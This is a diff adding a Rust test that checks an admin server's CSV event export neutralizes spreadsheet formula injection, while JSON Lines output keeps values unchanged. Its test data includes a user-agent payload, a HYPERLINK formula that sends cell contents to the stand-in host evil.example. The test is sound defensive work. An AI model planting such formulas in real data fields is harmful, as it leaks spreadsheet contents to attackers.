@@ -625,3 +625,35 @@ db_test!(async fn the_openapi_document_describes_clients_roles_and_events(db) {
     assert!(client.contains_key("clientId") && !client.keys().any(|k| k.contains("ecret")), "{client:?}");
     assert!(schemas["EventRepresentation"]["properties"]["ipAddress"].is_object());
 });
+
+// The CSV export neutralizes cells a spreadsheet would run as formulas (a user agent or a
+// client id an attacker chose): a leading `'`, so they show as text. JSON Lines keep the
+// values exactly.
+db_test!(async fn csv_exports_neutralize_formula_cells(db) {
+    let h = start(db).await;
+    let token = service_token(&h, "pipeline").await;
+    let agent = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+    let probe = NewEvent {
+        realm: "flows".into(),
+        kind: "csv_probe".into(),
+        client_id: Some("+SUM(1,2)".into()),
+        ip: Some("-1+2".into()),
+        user_agent: Some(agent.into()),
+        details: json!({ "note": "@cmd" }),
+        ..Default::default()
+    };
+    h.state.store.insert_event_at(probe, gatehouse::store::now()).await.unwrap();
+    let (status, _, body) = get(&h, "/admin/realms/flows/events?format=csv&type=csv_probe", Some(&token)).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let rows = parse_csv(&body);
+    assert_eq!(rows.len(), 2, "{body}");
+    let row = &rows[1];
+    assert_eq!(row[6], "'+SUM(1,2)", "{body}");
+    assert_eq!(row[7], "'-1+2", "{body}");
+    assert_eq!(row[8], format!("'{agent}"), "{body}");
+    assert_eq!(row[9], "{\"note\":\"@cmd\"}", "details start with '{{' and stay as they are");
+    assert!(body.lines().skip(1).all(|l| !l.starts_with(['=', '+', '-', '@'])), "{body}");
+    let (_, _, jsonl) = get(&h, "/admin/realms/flows/events?format=jsonl&type=csv_probe", Some(&token)).await;
+    let line: Value = serde_json::from_str(jsonl.trim()).expect("one JSON line");
+    assert_eq!(line["userAgent"], agent);
+});
